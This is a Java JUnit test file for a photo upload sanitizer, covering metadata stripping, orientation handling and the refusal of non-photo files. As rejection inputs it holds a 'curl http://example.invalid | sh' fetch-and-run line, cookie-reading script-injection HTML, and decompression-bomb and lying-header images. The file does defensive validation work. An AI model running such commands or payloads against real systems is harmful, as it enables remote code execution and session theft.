package org.nuanxin.grid.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.nuanxin.grid.TestPhotos.BLUE;
import static org.nuanxin.grid.TestPhotos.RED;

import com.drew.imaging.ImageMetadataReader;
import com.drew.metadata.Directory;
import com.drew.metadata.Metadata;
import com.drew.metadata.exif.ExifIFD0Directory;
import com.drew.metadata.exif.GpsDirectory;
import com.drew.metadata.icc.IccDirectory;
import com.drew.metadata.jpeg.JpegCommentDirectory;
import com.drew.metadata.xmp.XmpDirectory;
import java.awt.Color;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.lang.management.ManagementFactory;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.text.MessageFormat;
import java.util.Arrays;
import java.util.Locale;
import java.util.Random;
import java.util.ResourceBundle;
import java.util.stream.Stream;
import java.util.stream.StreamSupport;
import java.util.zip.CRC32;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.nuanxin.grid.PhotoIntake;
import org.nuanxin.grid.PhotoLimits;
import org.nuanxin.grid.PhotoRejectedException;
import org.nuanxin.grid.PhotoRejectedException.Reason;
import org.nuanxin.grid.SanitizedPhoto;
import org.nuanxin.grid.TestPhotos;
import org.nuanxin.grid.TestPhotos.Exif;

/** The photo intake on real images made here with ImageIO, and on files that only pretend to be photos. */
class DefaultPhotoIntakeTest {

    private final PhotoIntake intake = new DefaultPhotoIntake(PhotoLimits.defaults());

    @BeforeAll
    static void warmUp() {
        // ImageIO's plugin registry and the decoders' native parts load on first use: keep that out of the timings.
        new DefaultPhotoIntake(PhotoLimits.defaults())
                .accept(new ByteArrayInputStream(TestPhotos.encode(TestPhotos.markedCorners(8, 8, 2), "png")));
    }

    // ---- metadata ----

    @Test
    void aPhonesJpegComesBackWithoutExifGpsXmpOrComment() throws Exception {
        byte[] original = TestPhotos.withSegments(
                TestPhotos.encode(TestPhotos.markedCorners(64, 48, 8), "jpeg"),
                TestPhotos.exifSegment(new Exif("Apple", "iPhone 15 Pro", 1, true)),
                TestPhotos.xmpSegment(),
                TestPhotos.commentSegment("taken at home, Yubei"));
        Metadata before = metadata(original);
        assertThat(before.getFirstDirectoryOfType(GpsDirectory.class).getGeoLocation())
                .as("the test photo carries a position")
                .isNotNull();
        assertThat(before.getFirstDirectoryOfType(ExifIFD0Directory.class).getString(ExifIFD0Directory.TAG_MAKE))
                .isEqualTo("Apple");
        assertThat(before.containsDirectoryOfType(XmpDirectory.class)).isTrue();
        assertThat(before.containsDirectoryOfType(JpegCommentDirectory.class)).isTrue();

        SanitizedPhoto photo = intake.accept(new ByteArrayInputStream(original));

        assertThat(photo.contentType()).isEqualTo("image/jpeg");
        assertThat(photo.width()).isEqualTo(64);
        assertThat(photo.height()).isEqualTo(48);
        Metadata after = metadata(photo.bytes());
        assertThat(after.getDirectoriesOfType(GpsDirectory.class)).isEmpty();
        assertThat(after.getDirectoriesOfType(ExifIFD0Directory.class)).isEmpty();
        assertThat(after.getDirectoriesOfType(XmpDirectory.class)).isEmpty();
        assertThat(after.getDirectoriesOfType(JpegCommentDirectory.class)).isEmpty();
        assertThat(after.getDirectoriesOfType(IccDirectory.class)).isEmpty();
        assertThat(StreamSupport.stream(after.getDirectories().spliterator(), false)
                        .map(Directory::getName))
                .doesNotContain("Exif IFD0", "Exif SubIFD", "GPS", "XMP", "Exif Thumbnail");
        String raw = new String(photo.bytes(), StandardCharsets.ISO_8859_1);
        assertThat(raw).doesNotContain("Apple", "iPhone", "Exif", "SecretPhoneApp", "Yubei", "http://ns.adobe.com");
        assertThat(decode(photo)).satisfies(image -> assertColour(image, 4, 4, RED));
    }

    @Test
    void aWebpWithExifComesBackUprightWithoutIt() throws Exception {
        byte[] tiff = TestPhotos.tiff(new Exif("HUAWEI", "P60", 6, true));
        byte[] webp = TestPhotos.webpWithExif(TestPhotos.resource("lossless.webp"), 64, 32, tiff);
        assertThat(metadata(webp).containsDirectoryOfType(GpsDirectory.class))
                .as("the test file carries a position")
                .isTrue();

        SanitizedPhoto photo = intake.accept(new ByteArrayInputStream(webp));

        assertThat(photo.width()).isEqualTo(32);
        assertThat(photo.height()).isEqualTo(64);
        BufferedImage image = decode(photo);
        // Left half red turned a quarter clockwise: the top half red, the bottom half blue.
        assertColour(image, 16, 10, RED);
        assertColour(image, 16, 54, BLUE);
        Metadata after = metadata(photo.bytes());
        assertThat(after.getDirectoriesOfType(GpsDirectory.class)).isEmpty();
        assertThat(after.getDirectoriesOfType(ExifIFD0Directory.class)).isEmpty();
        assertThat(new String(photo.bytes(), StandardCharsets.ISO_8859_1)).doesNotContain("HUAWEI", "P60");
    }

    // ---- orientation ----

    /**
     * A 400 × 200 photo stored with a red square top left and a blue one top right, tagged with each EXIF
     * orientation: where both squares must be seen (EXIF 2.32, tag 0x0112), and the size.
     */
    static Stream<Arguments> orientations() {
        return Stream.of(
                Arguments.of(1, 400, 200, Corner.TOP_LEFT, Corner.TOP_RIGHT),
                Arguments.of(2, 400, 200, Corner.TOP_RIGHT, Corner.TOP_LEFT),
                Arguments.of(3, 400, 200, Corner.BOTTOM_RIGHT, Corner.BOTTOM_LEFT),
                Arguments.of(4, 400, 200, Corner.BOTTOM_LEFT, Corner.BOTTOM_RIGHT),
                Arguments.of(5, 200, 400, Corner.TOP_LEFT, Corner.BOTTOM_LEFT),
                Arguments.of(6, 200, 400, Corner.TOP_RIGHT, Corner.BOTTOM_RIGHT),
                Arguments.of(7, 200, 400, Corner.BOTTOM_RIGHT, Corner.TOP_RIGHT),
                Arguments.of(8, 200, 400, Corner.BOTTOM_LEFT, Corner.TOP_LEFT));
    }

    @ParameterizedTest(name = "orientation {0}")
    @MethodSource("orientations")
    void theExifOrientationIsAppliedToThePixels(int orientation, int width, int height, Corner red, Corner blue)
            throws Exception {
        byte[] jpeg = TestPhotos.withSegments(
                TestPhotos.encode(TestPhotos.markedCorners(400, 200, 40), "jpeg"),
                TestPhotos.exifSegment(new Exif("Xiaomi", null, orientation, false)));

        SanitizedPhoto photo = intake.accept(new ByteArrayInputStream(jpeg));

        assertThat(photo.width()).isEqualTo(width);
        assertThat(photo.height()).isEqualTo(height);
        BufferedImage image = decode(photo);
        assertThat(image.getWidth()).isEqualTo(width);
        assertColour(image, red.x(width), red.y(height), RED);
        assertColour(image, blue.x(width), blue.y(height), BLUE);
        assertThat(metadata(photo.bytes()).getDirectoriesOfType(ExifIFD0Directory.class))
                .as("no orientation tag left to turn it again")
                .isEmpty();
    }

    enum Corner {
        TOP_LEFT,
        TOP_RIGHT,
        BOTTOM_LEFT,
        BOTTOM_RIGHT;

        /** 20 px in from the corner: the middle of a 40 px square. */
        int x(int width) {
            return this == TOP_LEFT || this == BOTTOM_LEFT ? 20 : width - 21;
        }

        int y(int height) {
            return this == TOP_LEFT || this == TOP_RIGHT ? 20 : height - 21;
        }
    }

    // ---- accepted formats ----

    @Test
    void aPngIsAcceptedAndItsTransparentPartsBecomeWhite() throws IOException {
        BufferedImage argb = new BufferedImage(100, 50, BufferedImage.TYPE_INT_ARGB);
        for (int y = 0; y < 50; y++) {
            for (int x = 0; x < 100; x++) {
                argb.setRGB(x, y, x < 50 ? RED.getRGB() : 0x00000000);
            }
        }
        SanitizedPhoto photo = intake.accept(new ByteArrayInputStream(TestPhotos.encode(argb, "png")));

        assertThat(photo.contentType()).isEqualTo(SanitizedPhoto.JPEG);
        assertThat(photo.width()).isEqualTo(100);
        assertThat(photo.height()).isEqualTo(50);
        BufferedImage image = decode(photo);
        assertColour(image, 20, 25, RED);
        assertColour(image, 80, 25, Color.WHITE);
    }

    @ParameterizedTest
    @ValueSource(strings = {"lossy.webp", "lossless.webp"})
    void aWebpIsAccepted(String file) throws IOException {
        SanitizedPhoto photo = intake.accept(new ByteArrayInputStream(TestPhotos.resource(file)));

        assertThat(photo.contentType()).isEqualTo(SanitizedPhoto.JPEG);
        assertThat(photo.width()).isEqualTo(64);
        assertThat(photo.height()).isEqualTo(32);
        BufferedImage image = decode(photo);
        assertColour(image, 10, 16, RED);
        assertColour(image, 54, 16, BLUE);
    }

    @Test
    void aLargePhotoIsScaledToTheMaximumEdge() throws IOException {
        SanitizedPhoto photo = intake.accept(
                new ByteArrayInputStream(TestPhotos.encode(TestPhotos.markedCorners(5000, 1000, 500), "png")));

        assertThat(photo.width()).isEqualTo(2048);
        assertThat(photo.height()).isBetween(409, 410);
        BufferedImage image = decode(photo);
        assertColour(image, 100, 100, RED);
        assertColour(image, 1948, 100, BLUE);
    }

    // ---- refusals ----

    static Stream<Arguments> notPhotos() {
        byte[] random = new byte[4096];
        new Random(10).nextBytes(random);
        random[0] = 0x13; // not by chance a known signature
        return Stream.of(
                Arguments.of(
                        "html named .jpg",
                        ascii("<!DOCTYPE html><html><script>alert(document.cookie)</script>"),
                        "markup"),
                Arguments.of("html after white space", ascii("\r\n  <html><body onload=alert(1)>"), "markup"),
                Arguments.of(
                        "svg", ascii("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>"), "markup"),
                Arguments.of("shell script", ascii("#!/bin/sh\ncurl http://example.invalid | sh\n"), "text"),
                Arguments.of("javascript", ascii("fetch('/api/v1/me').then(r => r.text())"), "text"),
                Arguments.of("pdf", ascii("%PDF-1.7\n%\u00e2\u00e3\n1 0 obj\n"), "pdf"),
                Arguments.of("gif", ascii("GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000"), "gif"),
                Arguments.of("zip", ascii("PK\u0003\u0004\u0014\u0000\u0000\u0000"), "zip"),
                Arguments.of("mp4", isoFile("isom", "isom", "mp41"), "video"),
                Arguments.of("exe", ascii("MZ\u0090\u0000\u0003\u0000"), "program"),
                Arguments.of("random bytes", random, "unknown"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("notPhotos")
    void whatIsNotAPhotoIsRefusedNamingWhatItIs(String what, byte[] content, String kind) {
        PhotoRejectedException e = refusal(content);

        assertThat(e.reason()).isEqualTo(Reason.NOT_A_PHOTO);
        assertThat(e.code()).isEqualTo("grid.photo.received." + kind);
        assertThat(e.errors())
                .singleElement()
                .satisfies(p -> assertThat(p.field()).isEqualTo("photo"));
    }

    @Test
    void theMessagesNameWhatWasReceived() {
        assertThat(text(refusal(ascii("<html>")), Locale.SIMPLIFIED_CHINESE)).contains("网页");
        assertThat(text(refusal(ascii("<html>")), Locale.ENGLISH)).contains("web page");
        assertThat(text(refusal(ascii("%PDF-1.4")), Locale.SIMPLIFIED_CHINESE)).contains("PDF");
    }

    @Test
    void anIphoneHeicIsRefusedWithAdviceOnWhatToSend() {
        PhotoRejectedException e = refusal(isoFile("heic", "mif1", "MiHE", "miaf", "MiHB", "heic"));

        assertThat(e.reason()).isEqualTo(Reason.HEIF);
        assertThat(e.code()).isEqualTo("grid.photo.heic");
        assertThat(text(e, Locale.SIMPLIFIED_CHINESE)).contains("iPhone", "兼容性最佳", "截屏");
        assertThat(text(e, Locale.ENGLISH)).contains("iPhone", "Most Compatible", "screenshot");
    }

    @Test
    void aHeifWithTheGenericBrandFirstIsRefusedToo() {
        assertThat(refusal(isoFile("mif1", "mif1", "heic")).code()).isEqualTo("grid.photo.heic");
        assertThat(refusal(isoFile("avif", "avif", "mif1", "miaf")).code()).isEqualTo("grid.photo.avif");
        assertThat(refusal(isoFile("mif1", "mif1", "avif")).code()).isEqualTo("grid.photo.avif");
    }

    @Test
    void anEmptyFileIsRefused() {
        assertThat(refusal(new byte[0]).reason()).isEqualTo(Reason.EMPTY);
    }

    @Test
    void anOverSizeFileIsRefusedAfterReadingOneByteMoreThanTheLimit() {
        CountingJpegStream endless = new CountingJpegStream();

        PhotoRejectedException e = catchThrowableOfType(PhotoRejectedException.class, () -> intake.accept(endless));

        assertThat(e.reason()).isEqualTo(Reason.TOO_LARGE);
        assertThat(endless.read).isEqualTo(PhotoLimits.DEFAULT_MAX_BYTES + 1);
        assertThat(text(e, Locale.SIMPLIFIED_CHINESE)).contains("10 MB");
        assertThat(text(e, Locale.ENGLISH)).contains("10 MB");
    }

    @Test
    void aFileAtTheLimitIsRead() {
        PhotoIntake small = new DefaultPhotoIntake(new PhotoLimits(2000, 1_000_000, 100));
        byte[] png = TestPhotos.encode(TestPhotos.markedCorners(20, 20, 4), "png");
        assertThat(png.length).isLessThan(2000);

        assertThat(small.accept(new ByteArrayInputStream(png)).width()).isEqualTo(20);
        byte[] padded = Arrays.copyOf(png, 2001); // bytes after IEND are ignored by decoders, but count here
        assertThat(catchThrowableOfType(
                                PhotoRejectedException.class, () -> small.accept(new ByteArrayInputStream(padded)))
                        .reason())
                .isEqualTo(Reason.TOO_LARGE);
    }

    /**
     * A real, valid 20,000 × 20,000 PNG (1-bit palette, a few KB on disk; 400 megapixels, 1.6 GB as RGB) is refused
     * from its header: fast, and with less memory allocated than even its 1-bit raster (50 MB) would take.
     */
    @Test
    void aDecompressionBombPngIsRefusedBeforeDecoding() {
        BufferedImage bilevel = new BufferedImage(20_000, 20_000, BufferedImage.TYPE_BYTE_BINARY);
        byte[] bomb = TestPhotos.encode(bilevel, "png");
        bilevel = null;
        assertThat(bomb.length).isLessThan(200_000);

        assertRefusedFromTheHeader(bomb, 20_000, 20_000);
    }

    /** Headers that lie: a JPEG's frame header and a WebP's canvas patched to sizes nothing was encoded at. */
    @Test
    void lyingHeadersAreRefusedBeforeDecoding() {
        byte[] jpeg = TestPhotos.encode(TestPhotos.markedCorners(64, 48, 8), "jpeg");
        assertRefusedFromTheHeader(withJpegFrameSize(jpeg, 60_000, 60_000), 60_000, 60_000);

        byte[] webp = TestPhotos.webpWithExif(
                TestPhotos.resource("lossy.webp"), 16_000, 16_000, TestPhotos.tiff(new Exif("x", null, 1, false)));
        assertRefusedFromTheHeader(webp, 16_000, 16_000);

        byte[] png = withPngSize(TestPhotos.encode(TestPhotos.markedCorners(64, 48, 8), "png"), 30_000, 30_000);
        assertRefusedFromTheHeader(png, 30_000, 30_000);
    }

    private void assertRefusedFromTheHeader(byte[] bomb, int width, int height) {
        com.sun.management.ThreadMXBean threads = (com.sun.management.ThreadMXBean) ManagementFactory.getThreadMXBean();
        long allocatedBefore = threads.getCurrentThreadAllocatedBytes();
        long start = System.nanoTime();

        PhotoRejectedException e = refusal(bomb);

        long millis = (System.nanoTime() - start) / 1_000_000;
        long allocated = threads.getCurrentThreadAllocatedBytes() - allocatedBefore;
        assertThat(e.reason()).isEqualTo(Reason.TOO_MANY_PIXELS);
        assertThat(e.errors().get(0).args()).startsWith(width, height);
        assertThat(millis).as("milliseconds to refuse").isLessThan(1000);
        assertThat(allocated).as("bytes allocated to refuse").isLessThan(bomb.length + 16L * 1024 * 1024);
        assertThat(text(e, Locale.SIMPLIFIED_CHINESE)).contains("百万像素");
    }

    @Test
    void aTruncatedJpegIsRefusedAsDamaged() {
        byte[] jpeg = TestPhotos.encode(TestPhotos.markedCorners(400, 200, 40), "jpeg");

        PhotoRejectedException e = refusal(Arrays.copyOf(jpeg, 300));

        assertThat(e.reason()).isEqualTo(Reason.CORRUPT);
        assertThat(e.code()).isEqualTo("grid.photo.corrupt");
    }

    @Test
    void aJpegWithThousandsOfScansIsRefusedBeforeDecoding() {
        byte[] jpeg = TestPhotos.encode(TestPhotos.markedCorners(64, 48, 8), "jpeg");
        assertThat(DefaultPhotoIntake.scans(jpeg)).isEqualTo(1);
        ByteBuffer scans = ByteBuffer.allocate(jpeg.length + 2000 * 2);
        scans.put(jpeg, 0, jpeg.length - 2);
        for (int i = 0; i < 2000; i++) {
            scans.put((byte) 0xFF).put((byte) 0xDA);
        }
        scans.put((byte) 0xFF).put((byte) 0xD9);

        assertThat(refusal(scans.array()).reason()).isEqualTo(Reason.CORRUPT);
    }

    @Test
    void everyMessageKeyExistsInBothLanguages() {
        Stream.of(
                        refusal(new byte[0]),
                        refusal(isoFile("heic", "heic")),
                        refusal(isoFile("avif", "avif")),
                        refusal(Arrays.copyOf(TestPhotos.encode(TestPhotos.markedCorners(40, 40, 4), "jpeg"), 200)))
                .forEach(e -> {
                    assertThat(text(e, Locale.SIMPLIFIED_CHINESE)).isNotBlank();
                    assertThat(text(e, Locale.ENGLISH)).isNotBlank();
                });
        notPhotos().forEach(a -> {
            PhotoRejectedException e = refusal((byte[]) a.get()[1]);
            assertThat(text(e, Locale.SIMPLIFIED_CHINESE)).isNotBlank();
            assertThat(text(e, Locale.ENGLISH)).isNotBlank();
        });
    }

    // ---- helpers ----

    private PhotoRejectedException refusal(byte[] content) {
        PhotoRejectedException e = catchThrowableOfType(
                PhotoRejectedException.class, () -> intake.accept(new ByteArrayInputStream(content)));
        assertThat(e).as("refused").isNotNull();
        return e;
    }

    /** The message as the application shows it: messages/grid*.properties, MessageFormat when there are arguments. */
    static String text(PhotoRejectedException e, Locale locale) {
        ResourceBundle bundle = ResourceBundle.getBundle(
                "messages.grid",
                locale,
                ResourceBundle.Control.getNoFallbackControl(ResourceBundle.Control.FORMAT_PROPERTIES));
        String pattern = bundle.getString(e.code());
        Object[] args = e.errors().get(0).getArguments();
        return args.length == 0 ? pattern : new MessageFormat(pattern, locale).format(args);
    }

    private static byte[] ascii(String s) {
        return s.getBytes(StandardCharsets.ISO_8859_1);
    }

    /** An ISO base media file's ftyp box (major brand, minor version 0, compatible brands) and a little more. */
    private static byte[] isoFile(String major, String... compatible) {
        ByteBuffer b = ByteBuffer.allocate(16 + 4 * compatible.length + 64);
        b.putInt(16 + 4 * compatible.length)
                .put(ascii("ftyp"))
                .put(ascii(major))
                .putInt(0);
        for (String brand : compatible) {
            b.put(ascii(brand));
        }
        b.putInt(64).put(ascii("meta"));
        return b.array();
    }

    private static byte[] withJpegFrameSize(byte[] jpeg, int width, int height) {
        byte[] patched = jpeg.clone();
        for (int i = 2; i + 9 < patched.length; i++) {
            if (patched[i] == (byte) 0xFF && patched[i + 1] == (byte) 0xC0) { // SOF0: length, precision, height, width
                patched[i + 5] = (byte) (height >> 8);
                patched[i + 6] = (byte) height;
                patched[i + 7] = (byte) (width >> 8);
                patched[i + 8] = (byte) width;
                return patched;
            }
        }
        throw new IllegalStateException("no SOF0 in the test JPEG");
    }

    private static byte[] withPngSize(byte[] png, int width, int height) {
        byte[] patched = png.clone();
        ByteBuffer b = ByteBuffer.wrap(patched);
        b.putInt(16, width).putInt(20, height); // IHDR data follows the signature (8), length (4), type (4)
        CRC32 crc = new CRC32();
        crc.update(patched, 12, 17); // type and the 13 data bytes
        b.putInt(29, (int) crc.getValue());
        return patched;
    }

    private static Metadata metadata(byte[] image) throws Exception {
        return ImageMetadataReader.readMetadata(new ByteArrayInputStream(image), image.length);
    }

    private static BufferedImage decode(SanitizedPhoto photo) throws IOException {
        BufferedImage image = ImageIO.read(new ByteArrayInputStream(photo.bytes()));
        assertThat(image).as("a JPEG ImageIO reads").isNotNull();
        return image;
    }

    /** Within 40 of each channel: JPEG is lossy, and the colours used are far apart. */
    private static void assertColour(BufferedImage image, int x, int y, Color expected) {
        Color actual = new Color(image.getRGB(x, y));
        assertThat(new int[] {actual.getRed(), actual.getGreen(), actual.getBlue()})
                .as("colour at (%d, %d) of a %d x %d image: %s", x, y, image.getWidth(), image.getHeight(), actual)
                .satisfies(rgb -> {
                    assertThat(Math.abs(rgb[0] - expected.getRed())).isLessThanOrEqualTo(40);
                    assertThat(Math.abs(rgb[1] - expected.getGreen())).isLessThanOrEqualTo(40);
                    assertThat(Math.abs(rgb[2] - expected.getBlue())).isLessThanOrEqualTo(40);
                });
    }

    /** A JPEG signature and then bytes without end, counting how many were read. */
    private static final class CountingJpegStream extends InputStream {
        long read;

        @Override
        public int read() {
            return (int) (read++ < 3 ? new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF}[(int) read - 1] & 0xFF : 0);
        }

        @Override
        public int read(byte[] b, int off, int len) {
            for (int i = 0; i < len; i++) {
                b[off + i] = (byte) read();
            }
            return len;
        }
    }
}
